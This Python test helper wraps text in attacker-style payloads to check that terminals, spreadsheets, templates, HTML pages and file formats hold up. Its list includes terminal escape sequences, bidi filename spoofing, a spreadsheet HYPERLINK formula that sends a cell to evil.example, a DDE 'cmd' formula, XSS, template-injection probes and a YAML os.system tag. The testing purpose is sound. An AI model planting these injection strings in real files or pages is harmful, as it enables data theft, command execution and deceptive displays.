"""Text as an attacker would write it, for worlds with the option `hostile`.

Terminals, spreadsheets, templates, HTML pages and file formats must all survive it. Every text keeps the plain words in it,
so that a test can still find whom or what it names.
"""

from __future__ import annotations

import zlib

_PAYLOADS = (
    "\x1b[2J\x1b[31m{0}\x1b[0m",                                        # clear the screen, write in red
    "\x1b]8;;https://evil.example/\x1b\\{0}\x1b]8;;\x1b\\",             # OSC 8: a link that shows other words
    "\x1b]0;owned\x07{0}\x9b1A",                                        # window title; C1 CSI, one line up
    "{0} \u202e\u2066gnp.exe\u2069\u202c",                              # bidirectional override and isolates
    "{0}\rnothing to see\r\nSTEP DONE\x08\x08",                         # carriage return, a faked line, backspaces
    '=HYPERLINK("https://evil.example/?"&A1,"{0}")',                    # spreadsheet formulas
    "@SUM(1+1)*cmd|' /C calc'!A0 {0}",
    "{0} {{{{ 7*7 }}}} {{% raw %}} ${{7*7}}",                           # templates
    "<script>alert(1)</script><b onmouseover=alert(1)>{0}</b>&amp;",    # HTML
    "{0}\x00\ud800\ufeff",                                              # NUL, a lone surrogate, a byte-order mark
    "{0} " + "A\u0301\u0327" * 1500,                                    # long, with combining marks
    "--- {0}: [&a *a, !!python/object:os.system ]\n- x",                # YAML
)


def hostile(text: str) -> str:
    """The same words, wrapped in something hostile; which kind depends on the words alone."""
    return _PAYLOADS[zlib.crc32(text.encode()) % len(_PAYLOADS)].format(text)
